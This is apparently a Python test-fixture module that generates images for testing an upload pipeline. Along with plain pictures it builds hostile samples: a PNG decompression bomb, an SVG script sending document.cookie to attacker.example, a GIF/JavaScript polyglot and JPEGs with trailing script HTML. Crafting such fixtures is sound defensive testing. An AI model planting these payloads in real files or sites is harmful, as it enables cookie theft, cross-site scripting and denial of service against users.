"""Pictures for tests, made with Pillow, and hostile files made by hand."""

import io
import struct
import zlib

from PIL import Image, ImageCms

RED, BLUE = (220, 20, 20), (20, 20, 220)


def picture(fmt: str = "JPEG", size=(800, 600), colour=RED, **options) -> bytes:
    """A plain picture in fmt (JPEG, PNG, GIF, WEBP)."""
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, fmt, **options)
    return out.getvalue()


def jpeg_with_exif(size=(800, 600)) -> bytes:
    """A JPEG whose EXIF names a camera and a place, as phones write them, with a colour
    profile."""
    exif = Image.Exif()
    exif[0x010F] = "Camera Maker"  # Make
    exif[0x8825] = {2: (51.0, 30.0, 0.0)}  # GPSInfo: latitude
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return picture("JPEG", size, exif=exif.tobytes(), icc_profile=profile)


def animated_gif(size=(400, 300)) -> bytes:
    """Two frames: red, then blue."""
    frames = [Image.new("RGB", size, colour) for colour in (RED, BLUE)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width × height pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    # Rows of zeros compress to almost nothing; a few are enough to look like the start.
    idat = zlib.compress(b"\0" * (1 + 3 * min(width, 4096)) * 16, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
    b'<script>fetch("https://attacker.example/?c="+document.cookie)</script>'
    b'<rect width="400" height="300" fill="red"/></svg>'
)

HTML_PAGE = b"<!doctype html><html><body><h1>Not found</h1><p>Try the home page.</p></body></html>"

TRAILING_HTML = b"<html><script>alert(document.domain)</script></html>"


def gif_javascript_polyglot() -> bytes:
    """A GIF that is also JavaScript: the screen width's two bytes open a comment ("/*"),
    which closes after the image's trailer, so `GIF89a=1;alert(...)` runs as a script."""
    gif = bytearray(picture("GIF", (120, 80)))
    gif[6:8] = b"/*"  # the logical screen width, little-endian: 10799 pixels
    assert b"*/" not in gif  # noqa: S101  (the comment must run to the end of the image)
    return bytes(gif) + b"*/=1;alert(document.domain);" + TRAILING_HTML


def jpeg_with_trailing_html() -> bytes:
    return picture("JPEG", (640, 480)) + TRAILING_HTML
